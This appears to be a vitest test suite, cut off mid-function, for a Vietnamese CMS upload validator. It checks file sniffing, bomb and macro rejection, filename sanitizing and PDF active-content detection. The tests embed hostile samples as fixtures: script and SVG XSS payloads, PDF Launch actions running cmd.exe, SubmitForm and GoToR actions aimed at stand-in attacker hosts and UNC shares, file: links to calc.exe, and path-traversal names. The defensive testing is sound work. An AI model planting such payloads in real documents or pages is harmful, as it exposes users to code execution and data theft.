import { deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import {
  ALLOWED_UPLOADS,
  MAX_IMAGE_DIMENSION,
  MAX_IMAGE_PIXELS,
  sanitizeFilename,
  sniffKind,
  stripAndNormalizeImage,
  UploadRejectedError,
  validateUpload,
  type UploadInput,
  type UploadRejectionCode,
} from '../../cms/lib/upload-validation'
import { makeDemoPdf } from '../../demo/demo-files'

// ---------------------------------------------------------------------------
// Fixture builders: every input is made here, in code, with real encoders or by hand.
// ---------------------------------------------------------------------------

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
function crc32(buf: Buffer): number {
  let c = 0xffffffff
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

/** Minimal ZIP writer, "stored" (no compression), with local headers + central directory + EOCD. */
function makeZip(files: Record<string, string | Buffer>, { deflate = false }: { deflate?: boolean } = {}): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, content] of Object.entries(files)) {
    const raw = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8')
    const data = deflate ? deflateRawSync(raw) : raw
    const nameBuf = Buffer.from(name, 'utf8')
    const crc = crc32(raw)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4) // version needed
    local.writeUInt16LE(0x0800, 6) // flags: UTF-8 names
    local.writeUInt16LE(deflate ? 8 : 0, 8) // method: deflate or stored
    local.writeUInt32LE(crc, 14)
    local.writeUInt32LE(data.length, 18)
    local.writeUInt32LE(raw.length, 22)
    local.writeUInt16LE(nameBuf.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(0x0800, 8)
    central.writeUInt16LE(deflate ? 8 : 0, 10)
    central.writeUInt32LE(crc, 16)
    central.writeUInt32LE(data.length, 20)
    central.writeUInt32LE(raw.length, 24)
    central.writeUInt16LE(nameBuf.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, nameBuf, data)
    centrals.push(central, nameBuf)
    offset += 30 + nameBuf.length + data.length
  }
  const cd = Buffer.concat(centrals)
  const eocd = Buffer.alloc(22)
  eocd.writeUInt32LE(0x06054b50, 0)
  eocd.writeUInt16LE(Object.keys(files).length, 8)
  eocd.writeUInt16LE(Object.keys(files).length, 10)
  eocd.writeUInt32LE(cd.length, 12)
  eocd.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, cd, eocd])
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
const RELS = `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`

function makeDocx(extra: Record<string, string | Buffer> = {}, options: { deflate?: boolean } = {}): Buffer {
  return makeZip(
    {
      '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
      '_rels/.rels': `${RELS}<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
      'word/document.xml': `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Thông báo</w:t></w:r></w:p></w:body></w:document>`,
      ...extra,
    },
    options,
  )
}

function makeXlsx(extra: Record<string, string | Buffer> = {}): Buffer {
  return makeZip({
    '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    '_rels/.rels': `${RELS}<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `${RELS}<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>1</t></is></c></row></sheetData></worksheet>`,
    ...extra,
  })
}

/** A minimal well-formed PDF with a correct xref table; `objects` are bodies of objects 1..n. */
function makePdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  let size = parts[0]!.length
  const offsets: number[] = []
  objects.forEach((body, i) => {
    offsets.push(size)
    const obj = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
      Buffer.from('\nendobj\n', 'latin1'),
    ])
    parts.push(obj)
    size += obj.length
  })
  const xref = [
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`,
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`),
  ].join('')
  parts.push(
    Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`, 'latin1'),
  )
  return Buffer.concat(parts)
}

const streamObj = (dict: string, data: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ])

const pageContent = Buffer.from('BT /F1 12 Tf 72 720 Td (Thong bao) Tj ET')
const PLAIN_PDF_OBJECTS = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  streamObj('', pageContent),
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
]
const makePlainPdf = () => makePdf(PLAIN_PDF_OBJECTS)
/** Same document whose catalog opens with an action. */
const makePdfWithOpenAction = (action: string) =>
  makePdf([`<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>`, ...PLAIN_PDF_OBJECTS.slice(1), action])

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4)
  len.writeUInt32BE(data.length)
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(typeAndData))
  return Buffer.concat([len, typeAndData, crc])
}

/** A PNG whose IHDR declares width x height (8-bit grey) but whose IDAT holds a single tiny row: a bomb header. */
function makePngHeaderOnly(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(width, 0)
  ihdr.writeUInt32BE(height, 4)
  ihdr[8] = 8 // bit depth
  ihdr[9] = 0 // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1 + Math.min(width, 64)))),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 30, b: 30 } } })
const JPEG = await solid(32, 24).jpeg().toBuffer()
const PNG = await solid(32, 24).png().toBuffer()
const WEBP = await solid(32, 24).webp().toBuffer()
const PDF = makePlainPdf()
const DOCX = makeDocx()
const XLSX = makeXlsx()

/** Expect an UploadRejectedError with the given code and field (never passes on success or other errors). */
async function expectRejected(
  input: UploadInput,
  code: UploadRejectionCode,
  field: 'file' | 'alt' = 'file',
): Promise<UploadRejectedError> {
  const err = await validateUpload(input).then(
    () => null,
    (e: unknown) => e,
  )
  expect(err, 'upload should have been rejected').toBeInstanceOf(UploadRejectedError)
  const rejected = err as UploadRejectedError
  expect({ code: rejected.code, field: rejected.field }).toEqual({ code, field })
  expect(rejected.messageVi.length).toBeGreaterThan(10)
  expect(rejected.message.length).toBeGreaterThan(5)
  return rejected
}

// ---------------------------------------------------------------------------

describe('sniffKind', () => {
  it('recognises each allowed kind by content', () => {
    expect([JPEG, PNG, WEBP, PDF, DOCX, XLSX].map(sniffKind)).toEqual(['jpeg', 'png', 'webp', 'pdf', 'docx', 'xlsx'])
  })

  it('rejects non-allowed content and ZIPs that are not DOCX/XLSX', () => {
    expect(sniffKind(Buffer.from('<script>alert(1)</script>'))).toBeNull()
    expect(sniffKind(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBeNull()
    expect(sniffKind(Buffer.from('GIF89a\x01\x00\x01\x00'))).toBeNull()
    expect(sniffKind(Buffer.from('RIFF\x00\x00\x00\x00WAVEfmt '))).toBeNull()
    expect(sniffKind(Buffer.from('<html>%PDF-1.7'))).toBeNull() // %PDF- must be at offset 0
    expect(sniffKind(makeZip({ 'hello.txt': 'hi' }))).toBeNull()
    expect(sniffKind(makeZip({ '[Content_Types].xml': '<Types/>', 'ppt/presentation.xml': '<p/>' }))).toBeNull() // PPTX
    expect(sniffKind(makeZip({ 'word/document.xml': '<w/>' }))).toBeNull() // no [Content_Types].xml
    expect(
      sniffKind(makeZip({ '[Content_Types].xml': '<Types/>', 'word/a.xml': '<w/>', 'xl/b.xml': '<x/>' })),
    ).toBeNull() // ambiguous
    expect(sniffKind(DOCX.subarray(0, DOCX.length - 30))).toBeNull() // truncated: no end of central directory
  })
})

describe('validateUpload: accepted kinds', () => {
  const cases = [
    { buffer: JPEG, filename: 'Ảnh Hội nghị.JPEG', mimetype: 'image/jpeg', kind: 'jpeg', safe: 'anh-hoi-nghi.jpg' },
    { buffer: PNG, filename: 'so-do.png', mimetype: 'image/png', kind: 'png', safe: 'so-do.png' },
    { buffer: WEBP, filename: 'banner.webp', mimetype: 'image/webp', kind: 'webp', safe: 'banner.webp' },
    {
      buffer: PDF,
      filename: '../../Báo cáo Quý 1.PDF',
      mimetype: 'application/pdf',
      kind: 'pdf',
      safe: 'bao-cao-quy-1.pdf',
    },
    {
      buffer: DOCX,
      filename: 'Quyết định số 12.docx',
      mimetype: ALLOWED_UPLOADS.docx.mimeType,
      kind: 'docx',
      safe: 'quyet-dinh-so-12.docx',
    },
    // Windows browsers without Office claim octet-stream: no claim, the content decides.
    {
      buffer: XLSX,
      filename: 'Dự toán ngân sách.xlsx',
      mimetype: 'application/octet-stream',
      kind: 'xlsx',
      safe: 'du-toan-ngan-sach.xlsx',
    },
  ] as const

  for (const c of cases) {
    it(`accepts ${c.kind} with canonical mime and safe filename`, async () => {
      const res = await validateUpload({
        buffer: c.buffer,
        filename: c.filename,
        mimetype: c.mimetype,
        alt: 'Mô tả ảnh',
      })
      expect(res.kind).toBe(c.kind)
      expect(res.mimeType).toBe(ALLOWED_UPLOADS[c.kind].mimeType)
      expect(res.safeFilename).toBe(c.safe)
      if (ALLOWED_UPLOADS[c.kind].isImage)
        expect({ width: res.width, height: res.height }).toEqual({ width: 32, height: 24 })
      else expect(res.width).toBeUndefined()
    })
  }

  it('does not require alt text for documents', async () => {
    await expect(
      validateUpload({ buffer: PDF, filename: 'a.pdf', mimetype: 'application/pdf' }),
    ).resolves.toMatchObject({ kind: 'pdf' })
  })

  it('normalises MIME aliases and parameters to the canonical type', async () => {
    const res = await validateUpload({
      buffer: JPEG,
      filename: 'a.jpg',
      mimetype: 'Image/JPG; charset=binary',
      alt: 'x',
    })
    expect(res.mimeType).toBe('image/jpeg')
  })
})

describe('validateUpload: content that is not what it claims', () => {
  it('refuses a script named x.jpg claimed as image/jpeg', async () => {
    const err = await expectRejected(
      { buffer: Buffer.from('<script>alert(1)</script>'), filename: 'x.jpg', mimetype: 'image/jpeg', alt: 'x' },
      'unsupported-type',
    )
    expect(err.messageVi).toBe('Tệp tải lên: chỉ chấp nhận JPEG, PNG, WebP, PDF, DOCX, XLSX.')
  })

  it('refuses an SVG (even claimed as PNG)', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>',
    )
    await expectRejected({ buffer: svg, filename: 'logo.svg', mimetype: 'image/svg+xml', alt: 'x' }, 'unsupported-type')
    await expectRejected({ buffer: svg, filename: 'logo.png', mimetype: 'image/png', alt: 'x' }, 'unsupported-type')
  })

  it('refuses an HTML file', async () => {
    await expectRejected(
      {
        buffer: Buffer.from('<!doctype html><html><body>hi</body></html>'),
        filename: 'trang.html',
        mimetype: 'text/html',
      },
      'unsupported-type',
    )
  })

  it('refuses a PNG renamed .pdf, and a PNG claimed as PDF', async () => {
    const err = await expectRejected(
      { buffer: PNG, filename: 'bao-cao.pdf', mimetype: 'application/pdf', alt: 'x' },
      'extension-mismatch',
    )
    expect(err.messageVi).toMatch(/^Tệp tải lên: .*\.pdf.*PNG/)
    await expectRejected(
      { buffer: PNG, filename: 'bao-cao.png', mimetype: 'application/pdf', alt: 'x' },
      'mime-mismatch',
    )
  })

  it('refuses a file without extension and a DOCX named .xlsx', async () => {
    await expectRejected({ buffer: PDF, filename: 'bao-cao', mimetype: 'application/pdf' }, 'extension-mismatch')
    await expectRejected(
      { buffer: DOCX, filename: 'bang.xlsx', mimetype: ALLOWED_UPLOADS.xlsx.mimeType },
      'extension-mismatch',
    )
  })

  it('refuses a JPEG/HTML polyglot that only starts like a JPEG', async () => {
    const polyglot = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      Buffer.from('<html><script>alert(1)</script></html>'),
    ])
    await expectRejected({ buffer: polyglot, filename: 'x.jpg', mimetype: 'image/jpeg', alt: 'x' }, 'image-unreadable')
  })

  it('refuses a truncated (corrupt) image', async () => {
    const noisy = await sharp(Buffer.from(Array.from({ length: 64 * 64 * 3 }, (_, i) => (i * 7919) % 251)), {
      raw: { width: 64, height: 64, channels: 3 },
    })
      .png()
      .toBuffer()
    await expectRejected(
      { buffer: noisy.subarray(0, Math.floor(noisy.length / 2)), filename: 'x.png', mimetype: 'image/png', alt: 'x' },
      'image-unreadable',
    )
  })

  it('refuses a DOCX carrying a VBA project (a .docm renamed)', async () => {
    await expectRejected(
      {
        buffer: makeDocx({ 'word/vbaProject.bin': 'VBA' }),
        filename: 'a.docx',
        mimetype: ALLOWED_UPLOADS.docx.mimeType,
      },
      'office-macros',
    )
  })
})

describe('validateUpload: sizes and bombs', () => {
  it('refuses an empty file', async () => {
    await expectRejected({ buffer: Buffer.alloc(0), filename: 'a.pdf', mimetype: 'application/pdf' }, 'empty')
  })

  it('refuses a file one byte over its kind limit, accepts the exact limit for the size check', async () => {
    const big = Buffer.alloc(ALLOWED_UPLOADS.pdf.maxBytes + 1, 0x20)
    big.write('%PDF-1.7\n', 0, 'latin1')
    const err = await expectRejected({ buffer: big, filename: 'a.pdf', mimetype: 'application/pdf' }, 'too-large')
    expect(err.messageVi).toContain('30 MB')
    // Exactly at the limit passes the size check (the PDF scan finds nothing in spaces).
    await expect(
      validateUpload({
        buffer: big.subarray(0, ALLOWED_UPLOADS.pdf.maxBytes),
        filename: 'a.pdf',
        mimetype: 'application/pdf',
      }),
    ).resolves.toMatchObject({ kind: 'pdf' })

    const bigJpeg = Buffer.alloc(ALLOWED_UPLOADS.jpeg.maxBytes + 1)
    JPEG.copy(bigJpeg)
    await expectRejected({ buffer: bigJpeg, filename: 'a.jpg', mimetype: 'image/jpeg', alt: 'x' }, 'too-large')
  })

  it('refuses a decompression bomb (30000x30000 declared) quickly without decoding it', async () => {
    const bomb = makePngHeaderOnly(30_000, 30_000)
    expect(bomb.length).toBeLessThan(200)
    const t0 = performance.now()
    await expectRejected({ buffer: bomb, filename: 'bomb.png', mimetype: 'image/png', alt: 'x' }, 'image-too-large')
    expect(performance.now() - t0).toBeLessThan(1000)
  })

  it('refuses an image with one side above MAX_IMAGE_DIMENSION even under the pixel budget', async () => {
    const strip = makePngHeaderOnly(MAX_IMAGE_DIMENSION + 1, 10)
    expect((MAX_IMAGE_DIMENSION + 1) * 10).toBeLessThan(MAX_IMAGE_PIXELS)
    const err = await expectRejected(
      { buffer: strip, filename: 'strip.png', mimetype: 'image/png', alt: 'x' },
      'image-too-large',
    )
    expect(err.messageVi).toContain(`${MAX_IMAGE_DIMENSION + 1}×10`)
  })

  it('the hand-made header is otherwise sane: small declared size reaches the decoder, not the size guard', async () => {
    // Guards against the bomb test passing for the wrong reason (e.g. a broken IHDR CRC).
    const meta = await sharp(makePngHeaderOnly(30_000, 30_000), { limitInputPixels: false }).metadata()
    expect({ w: meta.width, h: meta.height, f: meta.format }).toEqual({ w: 30_000, h: 30_000, f: 'png' })
    await expectRejected(
      { buffer: makePngHeaderOnly(64, 64), filename: 'x.png', mimetype: 'image/png', alt: 'x' },
      'image-unreadable',
    )
  })
})

describe('validateUpload: alt text', () => {
  for (const alt of [undefined, null, '', '   \n\t']) {
    it(`refuses an image with alt ${JSON.stringify(alt)} on field 'alt'`, async () => {
      const err = await expectRejected(
        { buffer: PNG, filename: 'a.png', mimetype: 'image/png', alt },
        'alt-missing',
        'alt',
      )
      expect(err.messageVi).toMatch(/^Văn bản thay thế \(alt\): /)
    })
  }
})

describe('validateUpload: PDF active content', () => {
  const upload = (buffer: Buffer) => ({ buffer, filename: 'a.pdf', mimetype: 'application/pdf' })

  it('accepts the plain PDF fixture (control)', async () => {
    await expect(validateUpload(upload(makePlainPdf()))).resolves.toMatchObject({ kind: 'pdf' })
  })

  it('refuses /JavaScript, /JS and /Launch actions, naming what it found', async () => {
    for (const [action, named] of [
      ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>', 'JavaScript'],
      ['<< /Type /Action /S /Launch /F (cmd.exe) >>', 'Launch'],
      ['<< /Type /Action /JS 7 0 R >>', 'JavaScript (/JS)'],
    ] as const) {
      const err = await expectRejected(upload(makePdfWithOpenAction(action)), 'pdf-active-content')
      expect(err.messageVi).toMatch(/^Tệp tải lên: tệp PDF chứa /)
      expect(err.messageVi).toContain(named)
    }
  })

  it('refuses a hex-escaped name (/J#61vaScript)', async () => {
    await expectRejected(
      upload(makePdfWithOpenAction('<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>')),
      'pdf-active-content',
    )
  })

  it('refuses an action hidden in a compressed object stream', async () => {
    const inner = '6 0 << /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'
    const objStm = streamObj(
      `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`,
      deflateSync(Buffer.from(inner, 'latin1')),
    )
    await expectRejected(upload(makePdf([...PLAIN_PDF_OBJECTS, objStm])), 'pdf-active-content')
    // Control: the same object stream with a harmless object is fine.
    const harmless = streamObj(
      `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`,
      deflateSync(Buffer.from('6 0 << /Type /Foo >>', 'latin1')),
    )
    await expect(validateUpload(upload(makePdf([...PLAIN_PDF_OBJECTS, harmless])))).resolves.toMatchObject({
      kind: 'pdf',
    })
  })

  it('does not scan binary stream data ("/JS" bytes inside an image stream are not an action)', async () => {
    const img = streamObj(
      '/Type /XObject /Subtype /Image /Filter /DCTDecode',
      Buffer.from('\x00\x01/JS\x00/Launch\xff', 'latin1'),
    )
    await expect(validateUpload(upload(makePdf([...PLAIN_PDF_OBJECTS, img])))).resolves.toMatchObject({ kind: 'pdf' })
  })
})

describe('sanitizeFilename', () => {
  it.each([
    ['../../Báo cáo Quý 1.PDF', 'pdf', 'bao-cao-quy-1.pdf'],
    ['ảnh.jpeg', 'jpg', 'anh.jpg'],
    ['C:\\Users\\Đoàn\\Đường Điện.docx', 'docx', 'duong-dien.docx'],
    ['..\\..\\etc\\passwd', 'pdf', 'passwd.pdf'],
    ['.htaccess', 'pdf', 'htaccess.pdf'],
    ['...', 'pdf', 'tep.pdf'],
    ['', 'xlsx', 'tep.xlsx'],
    ['Tiếng Việt: “Hà Nội” — 2024!!.png', '.PNG', 'tieng-viet-ha-noi-2024.png'],
    ['a.php.jpg', 'jpg', 'a-php.jpg'],
    ['ảnh.exe', 'png', 'anh.png'],
    ['日本語.pdf', 'pdf', 'tep.pdf'],
  ])('%j + %j -> %j', (name, ext, expected) => {
    expect(sanitizeFilename(name, ext)).toBe(expected)
  })

  it('caps the base at 80 characters without a trailing hyphen', () => {
    const out = sanitizeFilename(`${'a'.repeat(79)} b${'c'.repeat(100)}.pdf`, 'pdf')
    expect(out).toBe(`${'a'.repeat(79)}.pdf`)
    expect(sanitizeFilename('x'.repeat(200), 'pdf')).toBe(`${'x'.repeat(80)}.pdf`)
  })

  it('only ever produces [a-z0-9-] plus the extension, never a dotfile', () => {
    for (const name of ['/', '\\', '-.-', ' .. ', '\u0000\u202e.gpj', 'đĐ ơƠ ưƯ', '%2e%2e%2fx']) {
      const out = sanitizeFilename(name, 'pdf')
      expect(out).toMatch(/^[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.pdf$/)
    }
    expect(sanitizeFilename('đĐ ơƠ ưƯ', 'pdf')).toBe('dd-oo-uu.pdf')
  })
})

describe('stripAndNormalizeImage', () => {
  it('removes EXIF incl. GPS and applies the orientation', async () => {
    const withGps = await solid(40, 20)
      .jpeg()
      .withExif({
        IFD0: { Make: 'TestCam', Software: 'SecretSoft' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '21/1 1/1 30/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '105/1 51/1 0/1',
        },
      })
      .withMetadata({ orientation: 6 })
      .toBuffer()
    const before = await sharp(withGps).metadata()
    const gpsIfdPointer = Buffer.from([0x25, 0x88]) // tag 0x8825 (GPSInfo), little-endian TIFF as written by libvips
    expect(before.exif?.includes(gpsIfdPointer)).toBe(true)
    expect(withGps.includes('TestCam')).toBe(true)
    expect(before.orientation).toBe(6)

    // validateUpload reports the dimensions as they will be stored (rotated).
    await expect(
      validateUpload({ buffer: withGps, filename: 'gps.jpg', mimetype: 'image/jpeg', alt: 'x' }),
    ).resolves.toMatchObject({ width: 20, height: 40 })

    const out = await stripAndNormalizeImage(withGps, 'jpeg')
    const after = await sharp(out).metadata()
    expect(sniffKind(out)).toBe('jpeg')
    expect(after.exif).toBeUndefined()
    expect(after.xmp).toBeUndefined()
    expect(after.orientation).toBeUndefined()
    expect({ w: after.width, h: after.height }).toEqual({ w: 20, h: 40 })
    expect(out.includes('TestCam')).toBe(false)
    expect(out.includes('Exif\0\0')).toBe(false)
  })

  it('keeps PNG and WebP in their format without metadata', async () => {
    const png = await solid(10, 10)
      .png()
      .withExif({ IFD0: { Make: 'TestCam' } })
      .toBuffer()
    const webp = await solid(10, 10)
      .webp()
      .withExif({ IFD0: { Make: 'TestCam' } })
      .toBuffer()
    expect((await sharp(png).metadata()).exif).toBeDefined()
    expect((await sharp(webp).metadata()).exif).toBeDefined()
    const [p, w] = await Promise.all([stripAndNormalizeImage(png, 'png'), stripAndNormalizeImage(webp, 'webp')])
    expect([sniffKind(p), sniffKind(w)]).toEqual(['png', 'webp'])
    expect((await sharp(p).metadata()).exif).toBeUndefined()
    expect((await sharp(w).metadata()).exif).toBeUndefined()
  })
})

// ---------------------------------------------------------------------------
// Active content (issue 9, item 10): every class, hidden the ways readers still read it.
// ---------------------------------------------------------------------------

/** A PDF whose catalog carries `catalogExtra`, with `extra` objects numbered from 6. */
const pdfWith = (catalogExtra: string, extra: (string | Buffer)[] = []) =>
  makePdf([`<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`, ...PLAIN_PDF_OBJECTS.slice(1), ...extra])
/** Page 3 with annotations (object 6 onwards). */
const pdfWithAnnots = (annots: string[]) =>
  makePdf([
    PLAIN_PDF_OBJECTS[0]!,
    PLAIN_PDF_OBJECTS[1]!,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [${annots.map((_, i) => `${6 + i} 0 R`).join(' ')}] >>`,
    PLAIN_PDF_OBJECTS[3]!,
    PLAIN_PDF_OBJECTS[4]!,
    ...annots,
  ])
/** An object stream holding `objects` (numbered from `first`), compressed as asked. */
const objStm = (
  objects: string[],
  first: number,
  {
    dict = '/Type /ObjStm',
    encode = (b: Buffer): Buffer => deflateSync(b),
    filter = '/Filter /FlateDecode',
  }: { dict?: string; encode?: (b: Buffer) => Buffer; filter?: string } = {},
) => {
  let header = ''
  let body = ''
  objects.forEach((o, i) => {
    header += `${first + i} ${body.length} `
    body += `${o}\n`
  })
  const content = Buffer.from(header + body, 'latin1')
  return streamObj(`${dict} /N ${objects.length} /First ${header.length} ${filter}`, encode(content))
}
/** `name` written with every letter hex-escaped, as a reader still reads it. */
const hexName = (name: string) => `/${[...name].map((c) => `#${c.charCodeAt(0).toString(16)}`).join('')}`

const pdfUpload = (buffer: Buffer) => ({ buffer, filename: 'van-ban.pdf', mimetype: 'application/pdf' })
const refusedPdf = async (buffer: Buffer, named: string | RegExp, code: UploadRejectionCode = 'pdf-active-content') => {
  const err = await expectRejected(pdfUpload(buffer), code)
  expect(err.messageVi).toMatch(/^Tệp tải lên: /)
  if (typeof named === 'string') expect(err.messageVi).toContain(named)
  else expect(err.messageVi).toMatch(named)
  return err
}

const PDF_ACTIONS: [string, string][] = [
  ['<< /S /JavaScript /JS (this.submitForm\\("https://x.invalid"\\)) >>', 'JavaScript'],
  ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>', 'Launch'],
  ['<< /S /SubmitForm /F << /FS /URL /F (https://x.invalid/collect) >> /Flags 4 >>', 'SubmitForm'],
  ['<< /S /ImportData /F (C:\\\\data.fdf) >>', 'ImportData'],
  ['<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>', 'GoToR'],
  ['<< /S /GoToE /T << /R /C /N (payload.pdf) >> >>', 'GoToE'],
  ['<< /S /Rendition /R 7 0 R >>', 'Rendition'],
]

/** Automatic and clicked links, forms, attachments and media. */
const pdfLinkAndFeatureTests = () => {
  it('refuses an automatic URI open (OpenAction and a page /AA), but not a clicked https link', async () => {
    await refusedPdf(pdfWith('/OpenAction << /S /URI /URI (https://tracker.invalid/open) >>'), '/URI')
    await refusedPdf(pdfWith('/AA << /WC << /S /URI /URI (https://x.invalid) >> >>'), '/URI')
    await refusedPdf(
      pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.invalid) >> >>'),
      '/URI',
    )
    const link = pdfWithAnnots([
      '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://angiang.gov.vn/) >> >>',
    ])
    await expect(validateUpload(pdfUpload(link))).resolves.toMatchObject({ kind: 'pdf' })
  })

  it('refuses a clicked link to javascript:, file: or a UNC path', async () => {
    for (const uri of [
      '(javascript:app.alert\\(1\\))',
      '(file:///C:/Windows/System32/calc.exe)',
      '(\\\\\\\\attacker\\\\share)',
      '<6A617661736372697074 3A616C6572742831 29>',
    ]) {
      await refusedPdf(
        pdfWithAnnots([`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI ${uri} >> >>`]),
        'liên kết không an toàn',
      )
    }
  })

  it('refuses XFA forms, embedded files, file attachments, rich media and 3D', async () => {
    await refusedPdf(
      pdfWith('/AcroForm << /Fields [] /XFA 6 0 R >>', [
        streamObj('', Buffer.from('<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>')),
      ]),
      'XFA',
    )
    await refusedPdf(
      pdfWith('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', [
        '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
        streamObj('/Type /EmbeddedFile', Buffer.from('MZ\x90\x00')),
      ]),
      'tệp nhúng',
    )
    await refusedPdf(
      pdfWithAnnots(['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /F (setup.exe) >> >>']),
      'tệp đính kèm',
    )
    await refusedPdf(pdfWithAnnots(['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>']), 'RichMedia')
    await refusedPdf(pdfWithAnnots(['<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] >>']), '3D')
  })
}

/** Actions hidden in object streams, updates and other objects; unreadable or nested ones. */
const pdfHiddenActionTests = () => {
  it('finds actions in object streams: without /Type, with an array filter and a PNG predictor, through ASCIIHex', async () => {
    const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
    await refusedPdf(pdfWith('/OpenAction 6 0 R', [objStm([js], 6, { dict: '' })]), 'JavaScript')
    const png = (b: Buffer) => {
      const columns = 4
      const rows: Buffer[] = []
      for (let i = 0; i < b.length; i += columns)
        rows.push(
          Buffer.concat([
            Buffer.from([0]),
            b.subarray(i, i + columns),
